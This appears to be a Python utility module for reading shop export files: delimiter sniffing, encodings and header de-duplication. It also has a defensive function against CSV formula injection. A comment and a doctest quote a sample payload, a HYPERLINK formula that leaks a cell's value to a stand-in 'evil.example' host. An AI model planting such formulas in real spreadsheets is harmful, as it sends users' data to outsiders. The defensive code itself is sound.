"""What every reader of shop exports knows: delimiters, encodings, signatures, headers.

Shared by ``tenure.analytics.frames`` and the CRM's importer, so a file that one
of them reads the other reads the same way.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pyarrow as pa

DELIMITERS = ("\t", ";", ",")
# Encodings tried after UTF-8: 1C/BAS and Excel in Russia and Ukraine save Windows-1251.
LEGACY_ENCODINGS = ["cp1251", "cp1252", "koi8_r", "utf_16"]
XLSX_MAGIC = b"PK\x03\x04"
PARQUET_MAGIC = b"PAR1"


def sniff_delimiter(line: str) -> str | None:
    """Return the delimiter the header line uses, or None for whitespace-separated text.

    The most frequent of tab, semicolon and comma wins; a line with none of them
    but several words is whitespace-separated (as CDNOW's files are).
    """
    counts = {d: line.count(d) for d in DELIMITERS}
    best = max(DELIMITERS, key=lambda d: counts[d])
    if counts[best]:
        return best
    return None if re.search(r"\S\s+\S", line.strip()) else ","


def unique_headers(headers: list[str]) -> list[str]:
    """Return the headers stripped, blanks named and repeats numbered ("Sum", "Sum (2)")."""
    seen: dict[str, int] = {}
    unique = []
    named = (h.strip() or f"column {i + 1}" for i, h in enumerate(headers))
    for header in named:
        seen[header] = seen.get(header, 0) + 1
        unique.append(header if seen[header] == 1 else f"{header} ({seen[header]})")
    return unique


# -- values written to spreadsheets ----------------------------------------------------------

#: A spreadsheet program reads a cell that starts with one of these as a formula (OWASP,
#: "CSV Injection"): ``=HYPERLINK("http://evil.example/?leak="&C2)`` would run on opening.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Only digits, a sign, spaces and the punctuation of numbers and phone numbers: such a value
# can name no function and no cell, so "+380441234567" and "-12,50" stay as they are.
_NUMBER_OR_PHONE = re.compile(r"[+-]?[\d (),./-]*\d[\d (),./-]*(?:[eE][+-]?\d+)?")
#: What ``neutralise`` puts before a value; spreadsheet programs read the rest as text.
TEXT_PREFIX = "'"
_FORMULA_START_PATTERN = "^[=+\\-@\\t\\r]"


def neutralise(value: Any) -> Any:
    """Return ``value`` so that no spreadsheet program reads it as a formula.

    Text that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets an
    apostrophe in front, as OWASP advises against CSV injection; text that is only a number
    or a phone number (``-5``, ``+380 44 123-45-67``) cannot hold a function and is left
    readable. Numbers, dates and everything else are returned unchanged.

    Parameters
    ----------
    value : object
        One cell of a CSV or XLSX file about to be written.

    Returns
    -------
    object
        ``value`` itself, or the text with ``'`` in front.

    Examples
    --------
    >>> neutralise('=HYPERLINK("http://evil.example/","Click me")')
    '\\'=HYPERLINK("http://evil.example/","Click me")'
    >>> neutralise("+380441234567"), neutralise(-5)
    ('+380441234567', -5)
    """
    if (isinstance(value, str) and value.startswith(FORMULA_STARTS)
            and not _NUMBER_OR_PHONE.fullmatch(value)):
        return TEXT_PREFIX + value
    return value


def neutralise_column(column: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    """Return a string column with :func:`neutralise` applied to each value.

    Only the values that start with a formula character pass through Python, so a column
    of a million customer ids costs one vectorised scan. Other types come back unchanged.

    Parameters
    ----------
    column : pyarrow.Array or pyarrow.ChunkedArray
        A column of a table about to be written as CSV.

    Returns
    -------
    pyarrow.Array or pyarrow.ChunkedArray
        The column, neutralised where needed.
    """
    # Arrow is loaded here, not with the module: the CRM's exports write rows one at a
    # time (`neutralise`) and a process that only starts need not load it.
    import pyarrow as pa
    import pyarrow.compute as pc

    if not (pa.types.is_string(column.type) or pa.types.is_large_string(column.type)):
        return column
    if isinstance(column, pa.ChunkedArray):
        column = column.combine_chunks()
    suspect = pc.fill_null(pc.match_substring_regex(column, _FORMULA_START_PATTERN), False)
    if not pc.any(suspect).as_py():
        return column
    flagged = pc.filter(column, suspect).to_pylist()
    replaced = pa.array([neutralise(value) for value in flagged], type=column.type)
    return pc.replace_with_mask(column, suspect, replaced)
